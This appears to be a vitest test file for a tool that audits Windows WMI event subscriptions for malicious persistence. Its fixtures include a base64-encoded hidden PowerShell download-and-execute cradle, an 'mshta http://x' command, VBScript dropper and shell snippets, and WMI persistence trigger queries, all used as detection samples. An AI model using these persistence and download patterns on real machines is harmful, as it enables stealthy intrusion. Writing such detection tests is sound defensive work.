import { WbemError, WbemStatus } from '@wmisec/wbem';
import { beforeEach, describe, expect, test } from 'vitest';
import type { FakeNamespace } from '../subscriptions/testing.ts';
import { audit } from './audit.ts';
import { openFindings } from './audit-report.ts';
import { commandLine, logFile, machine, type Planted, plant, rulesFor, script } from './testing.ts';

let root: FakeNamespace;
let subscription: FakeNamespace;

beforeEach(() => {
  ({ root, subscription } = machine());
});

const ENCODED = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString(
  'base64',
);

test('a machine without subscriptions is clean, all its namespaces looked at', async () => {
  const report = await audit(root);
  expect(report).toEqual({ host: null, namespaces: 4, subscriptions: 0, findings: [] });
});

test('a subscription that does what it should is clean', async () => {
  plant(subscription, { consumer: { SourceName: 'Acme', EventID: 1 } });
  expect(await rulesFor(root)).toEqual([]);
});

describe('what a consumer does', () => {
  test.each<[string, Planted, string[]]>([
    ['a command', commandLine('C:\\Acme\\agent.exe', 'C:\\Acme\\agent.exe'), ['runs-command']],
    ['a command without a path', commandLine('agent.exe -x'), ['runs-command']],
    [
      'an encoded command',
      commandLine(`powershell -NoP -W Hidden -enc ${ENCODED}`),
      ['runs-command', 'suspicious-command'],
    ],
    [
      'an encoded command behind the dash of a word processor, which PowerShell takes too',
      commandLine(`powershell \u2013enc ${ENCODED}`),
      ['runs-command', 'suspicious-command'],
    ],
    ['a script of its own', script('x = 1'), ['runs-script']],
    ['a dropper', script('Set s = CreateObject("ADODB.Stream")'), ['runs-script', 'suspicious-command']],
    [
      'a shell of a script',
      script('CreateObject("WScript.Shell").Run "calc"'),
      ['runs-script', 'suspicious-command'],
    ],
    [
      'a program that the event names',
      commandLine('%TargetInstance.Path% /x'),
      ['event-chooses-program', 'runs-command'],
    ],
    [
      'an executable that the event names',
      commandLine(null, 'C:\\%Name%'),
      ['event-chooses-program', 'runs-command'],
    ],
    [
      'event data in a shell',
      commandLine('cmd /c echo %Name%', 'C:\\Windows\\System32\\cmd.exe'),
      ['event-data-in-shell', 'runs-command'],
    ],
    ['event data for a program', commandLine('agent.exe "%Name%"', 'C:\\Acme\\agent.exe'), ['runs-command']],
    ['a log', logFile('C:\\Logs\\acme.log'), []],
    [
      'a log in the startup folder',
      logFile('C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\a.log'),
      ['sensitive-log-file'],
    ],
    ['a log that is a web page', logFile('D:\\inetpub\\wwwroot\\a.txt'), ['sensitive-log-file']],
    ['a log that is a script', logFile('C:\\Logs\\acme.vbs'), ['sensitive-log-file']],
    ['a log that is a script in the end', logFile('C:\\Logs\\acme.bat . '), ['sensitive-log-file']],
    [
      'mail',
      { className: 'SMTPEventConsumer', consumer: { SMTPServer: 'mail', ToLine: 'a@b' } },
      ['sends-mail'],
    ],
    [
      'mail to whom the event says',
      { className: 'SMTPEventConsumer', consumer: { SMTPServer: 'mail', CcLine: '%Owner%@b' } },
      ['event-chooses-recipient', 'sends-mail'],
    ],
    [
      'mail with a field too many',
      {
        className: 'SMTPEventConsumer',
        consumer: { SMTPServer: 'mail', HeaderFields: ['A: b\r\nBcc: c@d'] },
      },
      ['raw-header-fields', 'sends-mail'],
    ],
    [
      'a class that derives from a standard one',
      { className: 'Acme_Command', consumer: { CommandLineTemplate: 'mshta http://x' } },
      ['runs-command', 'suspicious-command', 'unknown-consumer-class'],
    ],
    ['a class of another kind', { className: 'Acme_Pager' }, ['unknown-consumer-class']],
  ])('%s', async (_, planted, rules) => {
    plant(subscription, planted);
    expect(await rulesFor(root)).toEqual(rules);
  });

  test('the command is shown, and what it decodes to', async () => {
    plant(subscription, commandLine(`powershell -e ${ENCODED}`));
    const { findings } = await audit(root);
    expect(findings[0]).toMatchObject({
      rule: 'suspicious-command',
      severity: 'critical',
      evidence: { command: `powershell -e ${ENCODED}`, decoded: expect.stringContaining('DownloadString') },
    });
  });

  test('a command of any length is looked at in bounded time, and shown in part', async () => {
    plant(subscription, commandLine(`powershell ${'-e a '.repeat(200_000)}`));
    const { findings } = await audit(root);
    expect(findings.find(({ rule }) => rule === 'runs-command')?.evidence['command']?.length).toBeLessThan(
      500,
    );
  });
});

describe('when it fires', () => {
  test.each([
    'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "Win32_PerfFormattedData_PerfOS_System" AND TargetInstance.SystemUpTime >= 240',
    'SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA "Win32_LogonSession"',
    'SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "Win32_LoggedInUser"',
    'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance.__CLASS = "Win32_LocalTime"',
    'SELECT * FROM __TimerEvent WHERE TimerId = "x"',
    'SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = "notepad.exe"',
    'select broken from Win32_LogonSession where (',
  ])('%s', async (query) => {
    plant(subscription, { query, ...script('x = 1') });
    expect(await rulesFor(root)).toContain('persistence-trigger');
    plant(subscription, { name: 'harmless', query });
    const { findings } = await audit(root);
    const harmless = findings.filter(({ evidence }) => evidence['filter']?.includes('harmless'));
    expect(harmless.map(({ rule }) => rule)).not.toContain('persistence-trigger');
  });

  test('a query that cannot be read is told', async () => {
    plant(subscription, { query: 'SELECT FROM' });
    expect(await rulesFor(root)).toEqual(['unreadable-query']);
  });

  test('a timer is told with its interval', async () => {
    subscription.plant('__TimerInstruction', { TimerId: 'tick', IntervalBetweenEvents: 60_000 });
    expect((await audit(root)).findings).toMatchObject([
      { rule: 'timer-instruction', evidence: { interval: '60000 ms' } },
    ]);
  });
});

describe('rules 5.7: who may raise the events', () => {
  test.each<[string, string | null, string[]]>([
    ['nobody said', null, ['event-access-missing']],
    ['an empty text', '', ['event-access-missing']],
    ['everyone', 'O:BAG:BAD:(A;;LO;;;WD)', ['event-access-wide']],
    ['users', 'O:BAG:BAD:(A;;LO;;;BU)', ['event-access-wide']],
    ['a null DACL', 'O:BAG:BAD:NO_ACCESS_CONTROL', ['event-access-wide']],
    ['text that is none', 'Administrators', ['event-access-unreadable']],
    ['nobody', 'O:BAG:BAD:', []],
  ])('%s', async (_, eventAccess, rules) => {
    plant(subscription, { eventAccess });
    expect(await rulesFor(root)).toEqual(rules);
  });

  test('it weighs more where something runs', async () => {
    plant(subscription, { eventAccess: null, ...script('x = 1') });
    const { findings } = await audit(root);
    expect(findings.find(({ rule }) => rule === 'event-access-missing')?.severity).toBe('medium');
  });
});

describe('rules 5.7: who created it', () => {
  const USER = 'S-1-5-21-1-2-3-1001';

  test('somebody else than an administrator', async () => {
    subscription.creator = USER;
    plant(subscription);
    const { findings } = await audit(root, { resolveAccount: async () => 'ACME\\eve' });
    expect(findings).toMatchObject([
      { rule: 'creator-not-administrator', message: `x was created by ACME\\eve (${USER})` },
    ]);
    expect(await rulesFor(root, { administrators: [USER] })).toEqual([]);
  });

  test('a SID that is nobody', async () => {
    subscription.creator = USER;
    plant(subscription);
    expect(await rulesFor(root, { resolveAccount: async () => null })).toEqual(['creator-unresolvable']);
  });

  test.each(['S-1-5-18', 'S-1-5-21-1-2-3-500', 'S-1-5-21-1-2-3-512', 'S-1-5-21-1-2-3-519'] as const)(
    '%s is an administrator',
    async (sid) => {
      subscription.creator = sid;
      plant(subscription);
      expect(await rulesFor(root)).toEqual([]);
    },
  );

  test('parts of different creators', async () => {
    plant(subscription);
    subscription.creator = 'S-1-5-18';
    subscription.plant('NTEventLogEventConsumer', { Name: 'x' });
    expect(await rulesFor(root)).toEqual(['creators-differ']);
  });
});

describe('where it is', () => {
  test('a subscription in another namespace', async () => {
    plant(root.children.get('default')!);
    expect(await rulesFor(root)).toEqual(['unusual-namespace']);
  });

  test('parts in several namespaces, found through the binding', async () => {
    const other = root.children.get('default')!;
    other.plant('ActiveScriptEventConsumer', { Name: 'far', ScriptingEngine: 'VBScript', ScriptText: 'x' });
    plant(subscription, {
      binding: { Consumer: '\\\\HOST\\root\\default:ActiveScriptEventConsumer.Name="far"' },
    });
    expect(await rulesFor(root)).toEqual([
      'cross-namespace-binding',
      'orphaned-consumer',
      'runs-script',
      'unusual-namespace',
    ]);
  });

  test('rules 9.15: events of another namespace are information, which leaves an audit clean', async () => {
    plant(subscription, { eventNamespace: 'root\\cimv2' });
    const report = await audit(root);
    expect(report.findings).toMatchObject([{ rule: 'event-namespace', severity: 'info' }]);
    expect(openFindings(report)).toEqual([]);
  });

  test('rules 5.8: a consumer that acts as the publisher', async () => {
    plant(subscription, { binding: { MaintainSecurityContext: true } });
    expect(await rulesFor(root)).toEqual(['acts-as-publisher']);
  });
});

describe('what is not whole', () => {
  test('orphans are judged as bound ones are', async () => {
    subscription.plant('__EventFilter', { Name: 'f', Query: 'SELECT * FROM A', QueryLanguage: 'WQL' });
    subscription.plant('CommandLineEventConsumer', { Name: 'c', CommandLineTemplate: 'mshta http://x' });
    expect(await rulesFor(root)).toEqual([
      'event-access-missing',
      'orphaned-consumer',
      'orphaned-filter',
      'runs-command',
      'suspicious-command',
    ]);
  });

  test('a binding to what is missing', async () => {
    subscription.plant('__FilterToConsumerBinding', {
      Filter: '__EventFilter.Name="gone"',
      Consumer: 'Acme_Pager.Name="gone"',
    });
    expect((await audit(root)).findings).toMatchObject([
      { rule: 'broken-binding', message: expect.stringContaining('__EventFilter.Name="gone"') },
    ]);
  });
});

describe('rules 14: who can write subscriptions', () => {
  test.each<[string, string, string[]]>([
    ['full write', 'O:BAG:BAD:(A;;CCDCLCSWRP;;;S-1-5-21-1-2-3-1001)', ['subscription-writers']],
    ['the right to change the descriptor', 'O:BAG:BAD:(A;;CCWD;;;AU)', ['subscription-writers']],
    ['everything generic', 'O:BAG:BAD:(A;;GA;;;AU)', ['subscription-writers']],
    ['the ownership', 'O:S-1-5-21-1-2-3-1001G:BAD:(A;;CC;;;AU)', ['subscription-writers']],
    ['a null DACL', 'O:BAG:BAD:NO_ACCESS_CONTROL', ['subscription-writers']],
    ['what is denied before', 'O:BAG:BAD:(D;;LC;;;WD)(A;;CCDCLCSWRP;;;AU)', []],
    ['what children inherit', 'O:BAG:BAD:(A;CIIO;CCDCLCSWRP;;;AU)', []],
    ['partial write', 'O:BAG:BAD:(A;;CCDCSWRP;;;AU)', []],
    ['administrators', 'O:BAG:BAD:(A;;CCDCLCSWRPWPRCWD;;;BA)(A;;GA;;;SY)', []],
  ])('%s', async (_, sddl, rules) => {
    subscription.sddl = sddl;
    expect(await rulesFor(root)).toEqual(rules);
  });

  test('a provider of consumers that Windows does not bring', async () => {
    subscription.plant('__EventConsumerProviderRegistration', {
      Provider: '__Win32Provider.Name="Pager"',
      ConsumerClassNames: ['Acme_Pager'],
    });
    subscription.plant('__EventConsumerProviderRegistration', {
      Provider: '__Win32Provider.Name="CommandLineEventConsumer"',
      ConsumerClassNames: ['CommandLineEventConsumer'],
    });
    expect((await audit(root)).findings).toMatchObject([
      { rule: 'consumer-provider', evidence: { classes: 'Acme_Pager' } },
    ]);
  });
});

describe('what cannot be read', () => {
  const denied = (what: string) => (read: string) => {
    if (read === what) throw new WbemError(WbemStatus.WBEM_E_ACCESS_DENIED);
  };

  test.each(['namespace', '__EventFilter', 'GetSD'])('%s is a finding', async (what) => {
    subscription.beforeRead = denied(what);
    expect((await audit(root)).findings).toMatchObject([
      { rule: 'unreadable', namespace: 'root\\subscription', evidence: { code: 'WBEM_E_ACCESS_DENIED' } },
    ]);
  });

  test('a class that a namespace lacks hides nothing', async () => {
    subscription.beforeRead = (read) => {
      if (read.startsWith('__')) throw new WbemError(WbemStatus.WBEM_E_INVALID_CLASS);
    };
    expect(await rulesFor(root)).toEqual([]);
  });

  test.each([
    WbemStatus.WBEM_E_TRANSPORT_FAILURE,
    WbemStatus.WBEM_E_CALL_CANCELLED,
    WbemStatus.WBEM_E_TIMED_OUT,
  ])('what ends the whole audit is thrown: %i', async (status) => {
    subscription.beforeRead = () => {
      throw new WbemError(status);
    };
    await expect(audit(root)).rejects.toMatchObject({ hresult: status });
  });

  test('namespaces that nest without end are not followed for ever', async () => {
    const inner = subscription.addChild('a');
    inner.children.set('a', inner);
    inner.plant('__Namespace', { Name: 'a' });
    await expect(audit(root, { maxNamespaces: 20 })).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
  });
});
